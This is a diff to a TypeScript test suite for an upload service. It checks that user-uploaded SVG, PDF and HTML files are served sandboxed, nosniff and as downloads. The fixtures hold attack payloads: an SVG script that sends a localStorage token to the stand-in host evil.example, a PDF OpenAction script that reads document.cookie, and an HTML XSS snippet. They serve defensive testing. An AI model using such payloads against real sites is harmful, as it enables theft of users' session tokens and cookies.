@@ -13,6 +13,8 @@ const at = (url: string) => new URL(url, app.url).toString();
 const SVG_ATTACK = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>fetch("https://evil.example/?t="+localStorage.getItem("token"))</script></svg>';
 const PNG = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63f8ffff3f0005fe02fea7d6a0ce0000000049454e44ae426082', 'hex');
 const PDF = Buffer.from('%PDF-1.4\n%%EOF\n');
+/** Opens with a script, as in the issue: an OpenAction of type JavaScript. */
+const PDF_WITH_SCRIPT = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(document.cookie)) >> >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
 const HTML = Buffer.from('<!doctype html><html><body><script>alert(document.domain)</script></body></html>');
 
 beforeAll(async () => {
@@ -67,13 +69,26 @@ describe('the SVG attack: an uploaded SVG with a script never runs as a page of 
     expect(response.headers.get('content-security-policy')).toMatch(/^sandbox;/);
   });
 
-  it("lesson.pdf is shown inline, nosniff, kept out of frames but not sandboxed (Chromium's viewer refuses a sandbox)", async () => {
+  it('lesson.pdf with embedded JavaScript is a sandboxed, nosniff download, never a page of the app', async () => {
     const { signedUrl, url } = await requestUpload(ownerToken, 'lesson.pdf');
-    expect((await put(signedUrl, PDF, 'application/pdf')).status).toBe(200);
+    expect((await put(signedUrl, PDF_WITH_SCRIPT, 'application/pdf')).status).toBe(200);
     const response = await fetch(at(url));
-    expect(response.headers.get('content-disposition')).toBe('inline; filename="lesson.pdf"');
+    expect(response.status).toBe(200);
+    expect(response.headers.get('content-type')).toBe('application/pdf');
+    expect(response.headers.get('content-disposition')).toBe('attachment; filename="lesson.pdf"');
     expect(response.headers.get('x-content-type-options')).toBe('nosniff');
-    expect(response.headers.get('content-security-policy')).toBe("frame-ancestors 'none'");
+    expect(response.headers.get('content-security-policy')).toMatch(/^sandbox; default-src 'none'/);
+    expect(response.headers.get('content-security-policy')).not.toMatch(/script-src/);
+  });
+
+  it("a PDF's byte ranges (what the app's pdf.js viewer asks for) carry the same sandbox", async () => {
+    const { signedUrl, url } = await requestUpload(ownerToken, 'guide.pdf');
+    expect((await put(signedUrl, PDF_WITH_SCRIPT, 'application/pdf')).status).toBe(200);
+    const response = await fetch(at(url), { headers: { range: 'bytes=0-7' } });
+    expect(response.status).toBe(206);
+    expect(Buffer.from(await response.arrayBuffer()).toString()).toBe('%PDF-1.4');
+    expect(response.headers.get('content-disposition')).toBe('attachment; filename="guide.pdf"');
+    expect(response.headers.get('content-security-policy')).toMatch(/^sandbox; default-src 'none'/);
   });
 });
 
